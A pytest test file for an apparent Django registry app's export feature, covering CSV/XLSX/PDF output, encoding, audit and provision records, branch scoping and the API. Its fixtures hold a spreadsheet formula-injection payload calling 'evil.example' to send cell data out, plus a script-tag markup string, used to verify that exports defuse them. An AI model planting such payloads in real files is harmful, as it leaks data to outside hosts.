"""Exports of a scoped selection: the files (CSV with a byte order mark, CP932, XLSX cell by
cell, PDF), the chosen columns only, formulas defused and markup kept as text, one audit event
and one provision per person, the pages and the API as jobs with a status, and no trace of a
sibling branch in any kind or format."""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import openpyxl
import pytest
from django.core.exceptions import ValidationError
from django.test import Client
from django.urls import reverse

from branchwork.access.models import AuditEvent
from branchwork.access.services import create_api_token
from branchwork.core.errors import PermissionDeniedError
from branchwork.imports import export_build, exports
from branchwork.imports.export_columns import columns_for, default_columns
from branchwork.imports.export_writers import cp932_substitute
from branchwork.imports.models import ExportJob, JobStatus
from branchwork.imports.selection import Selection
from branchwork.org.models import UnitKind
from branchwork.people.models import (
    Household,
    HouseholdMember,
    Membership,
    Person,
    PersonSensitive,
    Provision,
)
from branchwork.people.search import reindex
from tests.access.test_leaks import crawl
from tests.conftest import MARK_B, Federation, make_unit, make_user, signed_in

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
SHEET_FORMATS = ("csv", "csv_cp932", "xlsx")
FORMULAS = {
    "family_name_latin": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "given_name_latin": "+SUM(1,2)",
    "occupation": "-2+3",
    "notes": "@SUM(A1:A9)",
}
MARKUP = '<b>bold</b><script>alert("x")</script>'


def person(unit: Any, **fields: Any) -> Person:
    p = Person.objects.create(unit=unit, **fields)
    reindex([p])
    return p


def household(unit: Any, address: str, *members: tuple[Person, str]) -> Household:
    h = Household.objects.create(unit=unit, postal_code="5440001", address=address)
    for p, relation in members:
        HouseholdMember.objects.create(
            household=h, person=p, relation=relation, since=dt.date(2020, 1, 1)
        )
    return h


@pytest.fixture
def registry(federation: Federation) -> dict[str, Any]:
    """Branch A's people with awkward values; branch B's with the marker everywhere, one of
    them living in an A household and a member of a B body alongside A's chair."""
    f = federation
    tricky = person(
        f.a,
        family_name_hangul="박",
        given_name_hangul="서연",
        family_name_kanji="朴",
        given_name_kanji="瑞妍",
        family_name_kana="ぼく",
        given_name_kana="そよん",
        family_business=MARKUP,
        address="大阪市生野区〜𠮷野町1-2",
        phone="+81612345678",
        birth_date=dt.date(1950, 3, 1),
        birth_precision="month",
        **FORMULAS,
    )
    deep = person(f.a1, family_name_hangul="이", given_name_hangul="하나", family_name_latin="Yi")
    f.person_a.birth_date = dt.date(1960, 5, 17)
    f.person_a.address = "大阪市生野区桃谷1-1"
    f.person_a.save()
    b_other = person(
        f.b, family_name_hangul=f"최{MARK_B}", family_name_latin=f"Choi{MARK_B}", notes=MARK_B
    )
    PersonSensitive.objects.create(person=b_other, nationality=MARK_B)
    household(f.a, "大阪市生野区桃谷1-1", (f.person_a, "head"), (f.person_b, "spouse"))
    household(f.b, f"{MARK_B} 3-1", (b_other, "head"))
    body_b = make_unit(f.b, "WUB", UnitKind.WOMENS_UNION, marker=MARK_B)
    Membership.objects.create(person=f.person_a, body=f.fed, status="member")
    Membership.objects.create(person=f.person_a, body=body_b, status="supporter")
    Membership.objects.create(person=f.person_b, body=body_b, status="member")
    return {"tricky": tricky, "deep": deep, "b_other": b_other, "body_b": body_b}


@pytest.fixture
def run_tasks(settings: Any, django_capture_on_commit_callbacks: Any) -> Callable[..., Any]:
    """Tasks run at once, when the transaction that queued them commits."""
    settings.TASKS = IMMEDIATE

    def run(action: Callable[[], Any]) -> Any:
        with django_capture_on_commit_callbacks(execute=True):
            return action()

    return run


@pytest.fixture
def export(run_tasks: Callable[..., Any]) -> Callable[..., ExportJob]:
    def do(actor: Any, kind: str = "people", file_format: str = "csv", **kw: Any) -> ExportJob:
        columns = kw.pop("columns", None)
        job = run_tasks(
            lambda: exports.start_export(
                actor=actor,
                kind=kind,
                file_format=file_format,
                selection=Selection.from_data(kw.pop("selection", {})),
                columns=default_columns(kind, actor) if columns is None else columns,
                recipient=kw.pop("recipient", "みなと区役所"),
                purpose=kw.pop("purpose", "安否確認"),
                language=kw.pop("language", "en"),
                **kw,
            )
        )
        job.refresh_from_db()
        return job

    return do


def data_of(job: ExportJob) -> bytes:
    assert job.status == JobStatus.DONE, job.error
    return bytes(job.result)


def csv_rows(job: ExportJob) -> list[list[str]]:
    raw = data_of(job)
    text = raw.decode("cp932") if job.file_format == "csv_cp932" else raw.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def text_of(job: ExportJob) -> str:
    """Everything a file holds, as text (an XLSX's XML parts unzipped)."""
    raw = data_of(job)
    if job.file_format == "xlsx":
        with zipfile.ZipFile(io.BytesIO(raw)) as z:
            return "".join(z.read(n).decode() for n in z.namelist())
    if job.file_format == "pdf":
        return pdf_text(raw)
    return raw.decode("cp932" if job.file_format == "csv_cp932" else "utf-8-sig")


def pdf_text(raw: bytes) -> str:
    exe = shutil.which("pdftotext")
    if exe is None:
        pytest.skip("pdftotext (poppler-utils) is not installed")
    done = subprocess.run([exe, "-", "-"], input=raw, capture_output=True, check=True)
    return done.stdout.decode()


def api_for(user: Any) -> Client:
    return Client(HTTP_AUTHORIZATION=f"Bearer {create_api_token(user=user, name='t')[1]}")


# --- files -----------------------------------------------------------------------------------


def test_csv_is_utf8_with_a_byte_order_mark_and_holds_the_chosen_columns_only(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    job = export(federation.officer_a, columns=["address", "id", "name"])
    raw = data_of(job)
    assert raw.startswith(b"\xef\xbb\xbf") and not raw.startswith(b"\xef\xbb\xbf\xef\xbb\xbf")
    rows = csv_rows(job)
    assert rows[0] == ["person number", "name", "address"]  # the catalogue's order
    by_id = {int(r[0]): r for r in rows[1:]}
    tricky, deep = registry["tricky"], registry["deep"]
    assert set(by_id) == {federation.person_a.pk, tricky.pk, deep.pk}  # A and A1, not B
    assert by_id[federation.person_a.pk] == [
        str(federation.person_a.pk),
        "Kim Minsu",
        "大阪市生野区桃谷1-1",
    ]
    assert by_id[tricky.pk][2] == "大阪市生野区〜𠮷野町1-2"
    assert all(len(r) == 3 for r in rows)
    assert job.filename.endswith(".csv") and job.total == job.done == 3


def test_the_export_speaks_the_chosen_language(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    rows = csv_rows(export(federation.officer_a, columns=["id", "name"], language="ko"))
    assert [r[1] for r in rows[1:] if r[0] == str(federation.person_a.pk)] == ["김민수"]


def test_cp932_csv_decodes_and_counts_what_it_replaced(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    job = export(
        federation.officer_a,
        file_format="csv_cp932",
        columns=["id", "family_name_hangul", "family_name_kanji", "address"],
    )
    data_of(job).decode("cp932")  # strict: every byte is CP932
    rows = {r[0]: r for r in csv_rows(job)[1:]}
    tricky = rows[str(registry["tricky"].pk)]
    assert tricky[1] == "?"  # hangul has no CP932 form
    assert tricky[2] == "朴"
    # The wave dash is CP932's own (read back as the full-width tilde it maps to); 𠮷 → 吉.
    assert tricky[3] == "大阪市生野区～吉野町1-2"
    # 김 and 박 and 이 (one character each) plus 𠮷
    assert exports.replaced_characters(job) == 4
    assert cp932_substitute("é") == "e" and cp932_substitute("\u2014") == "\u2015"
    assert cp932_substitute("한") == "?"


def test_xlsx_cell_by_cell(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    tricky = registry["tricky"]
    job = export(
        federation.officer_a,
        file_format="xlsx",
        columns=["id", "unit", "family_name_latin", "birth_date", "family_business", "phone"],
        selection={"unit": "A", "q": "ぼく"},
    )
    book = openpyxl.load_workbook(io.BytesIO(data_of(job)))
    sheet = book.worksheets[0]
    rows = [list(row) for row in sheet.iter_rows()]
    assert [c.value for c in rows[0]] == [
        "person number",
        "unit code",
        "family name (romanised)",
        "birth date",
        "family business",
        "phone",
    ]
    assert len(rows) == 2
    cells = rows[1]
    assert cells[0].value == tricky.pk and cells[0].data_type == "n"
    assert cells[1].value == "A"
    assert cells[2].value == "'" + FORMULAS["family_name_latin"] and cells[2].data_type == "s"
    assert cells[3].value == "1950-03"  # known to the month: written as it is known
    assert cells[4].value == MARKUP and cells[4].data_type == "s"
    assert cells[5].value == "'+81612345678"
    dated = export(
        federation.officer_a,
        file_format="xlsx",
        columns=["id", "birth_date"],
        selection={"q": "Kim"},
    )
    row = list(openpyxl.load_workbook(io.BytesIO(data_of(dated))).worksheets[0].iter_rows())[1]
    assert row[1].is_date and row[1].value.date() == dt.date(1960, 5, 17)


def test_formula_starts_are_defused_and_markup_is_plain_text(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    names = ["id", *FORMULAS, "family_business"]
    rows = csv_rows(export(federation.officer_a, columns=names))
    header, *body = rows
    row = next(r for r in body if r[0] == str(registry["tricky"].pk))
    cells = dict(zip(header, row, strict=True))
    assert cells["family name (romanised)"] == "'" + FORMULAS["family_name_latin"]
    assert cells["given name (romanised)"] == "'+SUM(1,2)"
    assert cells["occupation"] == "'-2+3"
    assert cells["notes"] == "'@SUM(A1:A9)"
    assert cells["family business"] == MARKUP
    assert not any(c.startswith(("=", "+", "-", "@")) for r in body for c in r)


def test_one_audit_event_and_one_provision_per_person(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    job = export(
        federation.officer_a,
        columns=["id", "name", "phone"],
        recipient="みなと区役所 福祉課",
        purpose="安否確認",
        basis="law",
    )
    (event,) = AuditEvent.objects.filter(action="export")
    assert event.object_type == "imports.exportjob" and event.object_id == str(job.pk)
    assert event.actor_id == federation.officer_a.pk
    assert set(event.fields) == {"id", "name", "phone", "count:3", "people:3"}
    provisions = Provision.objects.filter(kind="export")
    assert sorted(p.person_id for p in provisions) == sorted(
        [federation.person_a.pk, registry["tricky"].pk, registry["deep"].pk]
    )
    for p in provisions:
        assert p.recipient == "みなと区役所 福祉課" and p.purpose == "安否確認"
        assert p.basis == "law" and p.by == federation.officer_a and p.unit == p.person.unit
        assert "phone" in p.items and "family_name_hangul" in p.items
    client = signed_in(federation.officer_a)
    assert client.get(reverse("people:provisions")).content.decode().count("みなと区役所") == 3


def test_households_and_memberships_are_recorded_for_their_people(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    export(federation.officer_a, kind="households", columns=["id", "address", "head"])
    assert [p.person_id for p in Provision.objects.all()] == [federation.person_a.pk]
    Provision.objects.all().delete()
    job = export(federation.officer_a, kind="memberships")
    rows = csv_rows(job)
    assert len(rows) == 3  # the header, person_a's two memberships
    assert [p.person_id for p in Provision.objects.all()] == [federation.person_a.pk]


def test_units_need_no_recipient_and_record_no_provision(
    federation: Federation, export: Callable[..., ExportJob]
) -> None:
    job = export(federation.officer_a, kind="units", recipient="", purpose="")
    rows = csv_rows(job)
    assert [r[0] for r in rows[1:]] == ["A", "A1"]
    assert rows[1][5] == "R1"  # the parent above the user's unit is named
    assert not Provision.objects.exists()
    assert AuditEvent.objects.filter(action="export").count() == 1


def test_what_is_refused(federation: Federation, registry: dict[str, Any]) -> None:
    def start(actor: Any = federation.officer_a, **kw: Any) -> ExportJob:
        args: dict[str, Any] = {
            "kind": "people",
            "file_format": "csv",
            "selection": Selection(),
            "columns": ["id"],
            "recipient": "x",
            "purpose": "y",
            "language": "en",
        }
        return exports.start_export(actor=actor, **(args | kw))

    for kw, field in (
        ({"kind": "everything"}, "kind"),
        ({"file_format": "pdf"}, "file_format"),
        ({"kind": "roster", "file_format": "csv"}, "file_format"),
        ({"columns": []}, "columns"),
        ({"columns": ["id", "password"]}, "columns"),
        ({"columns": ["nationality"]}, "columns"),  # the sensitive permission is not held
        ({"recipient": " "}, "recipient"),
        ({"purpose": ""}, "purpose"),
        ({"basis": "consent"}, "basis"),
        ({"language": "fr"}, "language"),
        ({"selection": Selection(unit="B")}, "unit"),
        ({"selection": Selection(members="boss")}, "members"),
    ):
        with pytest.raises(ValidationError) as err:
            start(**kw)
        assert field in err.value.message_dict, kw
    viewer = make_user("viewer-a", "viewer", federation.a)
    with pytest.raises(PermissionDeniedError):
        start(actor=viewer)
    assert start(actor=viewer, kind="units", columns=["code"], recipient="", purpose="").pk
    assert "nationality" in {c.name for c in columns_for("people", federation.central)}
    assert "nationality" not in {c.name for c in columns_for("people", federation.officer_a)}


def test_sensitive_columns_with_the_permission(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    job = export(federation.central, columns=["id", "nationality"], selection={"unit": "B"})
    rows = {r[0]: r[1] for r in csv_rows(job)[1:]}
    assert rows[str(registry["b_other"].pk)] == MARK_B
    assert "nationality" in AuditEvent.objects.get(action="export").fields


def test_a_job_is_built_once_and_a_failure_records_nothing(
    federation: Federation,
    registry: dict[str, Any],
    export: Callable[..., ExportJob],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    job = export(federation.officer_a, columns=["id"])
    assert export_build.execute_export(job.pk)["status"] == "skipped"
    assert Provision.objects.count() == 3

    def broken(*args: Any, **kwargs: Any) -> None:
        raise RuntimeError("disk full")

    monkeypatch.setattr(export_build, "_record_provisions", broken)
    failed = export(federation.officer_a, columns=["id"])
    assert failed.status == JobStatus.FAILED and "failed" in failed.error
    assert failed.result is None and Provision.objects.count() == 3
    assert AuditEvent.objects.filter(action="export").count() == 1


def test_a_user_who_lost_access_gets_no_file(
    federation: Federation, registry: dict[str, Any], settings: Any
) -> None:
    job = exports.start_export(
        actor=federation.officer_a,
        kind="people",
        file_format="csv",
        selection=Selection(unit="A"),
        columns=["id"],
        recipient="x",
        purpose="y",
        language="en",
    )
    federation.officer_a.is_active = False
    federation.officer_a.save()
    export_build.execute_export(job.pk)
    job.refresh_from_db()
    assert job.status == JobStatus.FAILED and job.result is None
    assert not Provision.objects.exists()


# --- leaks -----------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["people", "households", "memberships", "units"])
@pytest.mark.parametrize("file_format", SHEET_FORMATS)
def test_no_marker_of_b_in_any_export_of_a(
    federation: Federation,
    registry: dict[str, Any],
    export: Callable[..., ExportJob],
    kind: str,
    file_format: str,
) -> None:
    everything = [c.name for c in columns_for(kind, federation.officer_a)]
    job = export(federation.officer_a, kind=kind, file_format=file_format, columns=everything)
    text = text_of(job)
    assert job.total > 0 and MARK_B not in text
    if kind in ("people", "households", "memberships"):
        assert "Kim" in text
    assert not Provision.objects.filter(person__unit__path__startswith=federation.b.path).exists()


def test_no_marker_of_b_on_any_export_page_a_can_reach(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    for kind in ("people", "households", "memberships", "units"):
        export(federation.officer_a, kind=kind)
    client = signed_in(federation.officer_a)
    pages = crawl(client, reverse("exports:new") + "?unit=A&q=")
    assert any("/download/" in url for url in pages)
    for url, body in pages.items():
        # The export pages and files. (The person page lists a membership's body by name
        # even out of scope: the people app's to judge, so it is not asserted here.)
        if url.startswith("/exports/"):
            assert MARK_B not in body, url


def test_a_selection_narrows_by_membership(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    rows = csv_rows(export(federation.officer_a, columns=["id"], selection={"members": "member"}))
    assert [r[0] for r in rows[1:]] == [str(federation.person_a.pk)]
    assert Provision.objects.count() == 1


def test_the_parent_unit_sees_b(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    for kind in ("people", "households", "memberships", "units"):
        assert MARK_B in text_of(export(federation.regional, kind=kind)), kind


# --- pages -----------------------------------------------------------------------------------


def test_the_export_page_starts_a_job_and_offers_the_file(
    federation: Federation, registry: dict[str, Any], run_tasks: Callable[..., Any]
) -> None:
    client = signed_in(federation.officer_a)
    page = client.get(reverse("exports:new"), {"unit": "A", "q": "Kim"})
    body = page.content.decode()
    assert page.status_code == 200
    assert 'name="q" value="Kim"' in body and 'name="unit" value="A"' in body
    assert '<label for="id_recipient">' in body and 'value="phone"' in body
    assert 'value="nationality"' not in body
    partial = client.get(reverse("exports:new"), {"kind": "units"}, HTTP_HX_REQUEST="true")
    assert b'id="export-options"' in partial.content and b"<html" not in partial.content
    assert b'name="basis"' not in partial.content
    form = {
        "kind": "people",
        "unit": "A",
        "q": "Kim",
        "columns": ["id", "name"],
        "file_format": "csv",
        "language": "en",
        "recipient": "",
        "purpose": "",
        "basis": "other",
    }
    refused = client.post(reverse("exports:new"), form)
    assert refused.status_code == 200 and b"every export of people" in refused.content
    form.update(recipient="婦人会", purpose="名簿")
    response = run_tasks(lambda: client.post(reverse("exports:new"), form))
    job = ExportJob.objects.get()
    assert response.status_code == 302 and response["Location"] == reverse(
        "exports:job", args=[job.pk]
    )
    assert job.selection["q"] == "Kim" and job.columns == ["id", "name"]
    shown = client.get(reverse("exports:job", args=[job.pk])).content.decode()
    assert reverse("exports:download", args=[job.pk]) in shown and "hx-trigger" not in shown
    polled = client.get(reverse("exports:status", args=[job.pk]), HTTP_HX_REQUEST="true")
    assert polled.status_code == 286  # htmx stops polling
    download = client.get(reverse("exports:download", args=[job.pk]))
    assert download.status_code == 200 and download["Content-Type"].startswith("text/csv")
    assert "attachment" in download["Content-Disposition"]
    assert download.content.decode("utf-8-sig").splitlines()[1].endswith("Kim Minsu")
    assert AuditEvent.objects.filter(action="download", object_id=str(job.pk)).count() == 1
    assert client.put(reverse("exports:download", args=[job.pk])).status_code == 405
    listing = client.get(reverse("exports:list")).content.decode()
    assert listing.count('data-testid="export"') == 1


def test_a_queued_job_is_polled(federation: Federation) -> None:
    client = signed_in(federation.officer_a)
    job = exports.start_export(
        actor=federation.officer_a,
        kind="units",
        file_format="xlsx",
        selection=Selection(),
        columns=["code"],
        recipient="",
        purpose="",
        language="en",
    )
    page = client.get(reverse("exports:job", args=[job.pk])).content.decode()
    assert 'hx-trigger="every 1s"' in page and "<progress" in page
    assert client.get(reverse("exports:status", args=[job.pk])).status_code == 200
    assert client.get(reverse("exports:download", args=[job.pk])).status_code == 404


def test_the_export_page_is_scoped(federation: Federation) -> None:
    client = signed_in(federation.officer_a)
    response = client.get(reverse("exports:new"), {"unit": "B"})
    assert response.status_code == 404 and MARK_B not in response.content.decode()
    assert Client().get(reverse("exports:new")).status_code == 302  # sign in first


def test_another_users_job_is_404_on_pages_and_in_the_api(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    job = export(federation.officer_a, columns=["id", "name"])
    owner = signed_in(federation.officer_a)
    for name in ("exports:job", "exports:status", "exports:download"):
        assert owner.get(reverse(name, args=[job.pk])).status_code == 200, name
    for other in (federation.officer_b, federation.regional, federation.central):
        client = signed_in(other)
        for name in ("exports:job", "exports:status", "exports:download"):
            response = client.get(reverse(name, args=[job.pk]))
            assert response.status_code == 404, (name, other)
        assert "Kim" not in client.get(reverse("exports:list")).content.decode()
        api = api_for(other)
        for path in (f"/api/v1/exports/{job.pk}", f"/api/v1/exports/{job.pk}/file"):
            assert api.get(path).status_code == 404, (path, other)
        assert api.get("/api/v1/exports").json() == []
    assert AuditEvent.objects.filter(action="download").count() == 1  # the owner's only


def test_the_export_list_reads_a_fixed_number_of_queries(
    federation: Federation,
    registry: dict[str, Any],
    export: Callable[..., ExportJob],
    django_assert_num_queries: Any,
) -> None:
    client = signed_in(federation.officer_a)
    client.get(reverse("exports:list"))  # warm the session
    # session, user, grants (scope), the jobs (their files not loaded)
    with django_assert_num_queries(4):
        assert client.get(reverse("exports:list")).status_code == 200
    for _ in range(3):
        export(federation.officer_a, kind="units", columns=["code"])
    with django_assert_num_queries(4):
        assert client.get(reverse("exports:list")).status_code == 200


# --- the API ---------------------------------------------------------------------------------


def test_the_api_flow_start_status_file(
    federation: Federation, registry: dict[str, Any], run_tasks: Callable[..., Any]
) -> None:
    api = api_for(federation.officer_a)
    columns = api.get("/api/v1/exports/columns?kind=people").json()
    assert {"name": "phone", "label": "phone", "default": True} in columns
    payload = {
        "kind": "people",
        "format": "xlsx",
        "unit": "A",
        "recipient": "婦人会",
        "purpose": "名簿",
        "language": "en",
    }
    started = run_tasks(
        lambda: api.post("/api/v1/exports", payload, content_type="application/json")
    )
    assert started.status_code == 202, started.content
    job_id = started.json()["id"]
    status = api.get(f"/api/v1/exports/{job_id}").json()
    assert status["status"] == "done" and status["total"] == 3 and status["percent"] == 100
    assert status["columns"] == default_columns("people", federation.officer_a)
    assert status["file_url"] == f"/api/v1/exports/{job_id}/file"
    file = api.get(status["file_url"])
    assert file.status_code == 200 and file["Content-Type"].startswith("application/vnd.openxml")
    sheet = openpyxl.load_workbook(io.BytesIO(file.content)).worksheets[0]
    assert sheet.max_row == 4
    assert Provision.objects.count() == 3
    assert [e["id"] for e in api.get("/api/v1/exports").json()] == [job_id]


def test_the_api_refuses_and_waits(federation: Federation) -> None:
    api = api_for(federation.officer_a)
    bad = api.post(
        "/api/v1/exports", {"kind": "people", "format": "csv"}, content_type="application/json"
    )
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["body", "recipient"]
    viewer = api_for(make_user("viewer-a", "viewer", federation.a))
    denied = viewer.post(
        "/api/v1/exports",
        {"kind": "people", "format": "csv", "recipient": "x", "purpose": "y"},
        content_type="application/json",
    )
    assert denied.status_code == 403
    queued = api.post(
        "/api/v1/exports", {"kind": "units", "format": "csv"}, content_type="application/json"
    )
    assert queued.status_code == 202 and queued.json()["status"] == "queued"
    assert api.get(f"/api/v1/exports/{queued.json()['id']}/file").status_code == 409
    assert api.get("/api/v1/exports/columns?kind=nothing").status_code == 422
    assert api.delete(f"/api/v1/exports/{queued.json()['id']}").status_code == 405


# --- printed lists ---------------------------------------------------------------------------


@pytest.fixture
def needs_paper() -> Iterator[None]:
    pytest.importorskip("branchwork.imports.paper")
    yield


@pytest.mark.parametrize("kind", ["roster", "household_list", "labels"])
def test_printed_lists_are_scoped_and_recorded(
    federation: Federation,
    registry: dict[str, Any],
    export: Callable[..., ExportJob],
    needs_paper: None,
    kind: str,
) -> None:
    job = export(federation.officer_a, kind=kind, file_format="pdf", columns=[])
    raw = data_of(job)
    assert raw.startswith(b"%PDF") and job.filename.endswith(".pdf")
    text = pdf_text(raw)
    assert MARK_B not in text and "Kim" in text
    people = {p.person_id for p in Provision.objects.all()}
    if kind == "roster":
        assert people == {federation.person_a.pk, registry["tricky"].pk, registry["deep"].pk}
    else:  # the A household: its member from B is neither printed nor recorded
        assert people == {federation.person_a.pk}
    assert AuditEvent.objects.filter(action="export").count() == 1


def test_a_grant_that_ended_takes_its_exports_with_it(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    from django.utils import timezone

    from branchwork.access.models import Grant
    from branchwork.access.scoping import forget_scope

    regional = make_user("regional-2", "officer", federation.r1)
    job = export(regional, columns=["id", "name"], selection={"unit": "B"})
    whole = export(regional, columns=["id", "name"])
    again = export(regional, columns=["id", "name"], selection={"unit": "A"})
    client = signed_in(regional)
    assert client.get(reverse("exports:download", args=[whole.pk])).status_code == 200
    assert client.get(reverse("exports:download", args=[job.pk])).status_code == 200
    # Moved to region R2: R1's branches are out of their sight, and so are the files of them.
    Grant.objects.filter(user=regional).update(revoked_at=timezone.now())
    Grant.objects.create(
        user=regional,
        role=Grant.objects.filter(user=regional).first().role,  # type: ignore[union-attr]
        unit=federation.r2,
        valid_from=timezone.localdate(),
    )
    forget_scope(regional)
    assert client.get(reverse("exports:download", args=[job.pk])).status_code == 403
    assert api_for(regional).get(f"/api/v1/exports/{job.pk}/file").status_code == 403
    # A file of "everything I see" was made over R1: it went with the grant on R1.
    assert client.get(reverse("exports:download", args=[whole.pk])).status_code == 403
    assert client.get(reverse("exports:download", args=[again.pk])).status_code == 403


def test_stored_files_are_deleted_after_their_days(
    federation: Federation, registry: dict[str, Any], export: Callable[..., ExportJob]
) -> None:
    """An export's file, and an upload never imported, are deleted STORED_FILE_DAYS after they
    were made (audited); the jobs stay, and say why their file is gone."""
    from django.conf import settings
    from django.utils import timezone

    from branchwork.imports import services
    from branchwork.imports.exports import expire_files
    from branchwork.imports.models import ImportFile, ImportJob

    old = export(federation.officer_a, columns=["id", "name"])
    fresh = export(federation.officer_a, columns=["id", "name"])
    upload = services.create_import(
        actor=federation.admin_a,
        kind="people",
        filename="old.csv",
        data="姓,名\n金,民洙\n".encode(),
        unit=federation.a,
    )
    now = timezone.now()
    days = dt.timedelta(days=settings.STORED_FILE_DAYS, hours=1)
    ExportJob.objects.filter(pk=old.pk).update(finished_at=now - days)
    ImportJob.objects.filter(pk=upload.pk).update(created_at=now - days)

    assert expire_files(now) == (1, 1)
    old.refresh_from_db()
    assert old.status == JobStatus.EXPIRED
    assert ExportJob.objects.filter(pk=old.pk).values_list("result", flat=True).get() is None
    assert not ImportFile.objects.filter(job=upload).exists()
    assert ImportJob.objects.get(pk=upload.pk).status == JobStatus.EXPIRED
    assert AuditEvent.objects.filter(action="expire").count() == 2
    assert expire_files(now) == (0, 0)  # once

    owner = signed_in(federation.officer_a)
    assert owner.get(reverse("exports:download", args=[fresh.pk])).status_code == 200
    assert owner.get(reverse("exports:download", args=[old.pk])).status_code == 404
    page = owner.get(reverse("exports:list")).content.decode()
    assert reverse("exports:download", args=[old.pk]) not in page
    api = api_for(federation.officer_a)
    response = api.get(f"/api/v1/exports/{old.pk}/file")
    assert response.status_code == 409
    assert "deleted" in response.json()["detail"]
    with pytest.raises(ValidationError, match="deleted"):
        services.enqueue(ImportJob.objects.get(pk=upload.pk), dry_run=True)
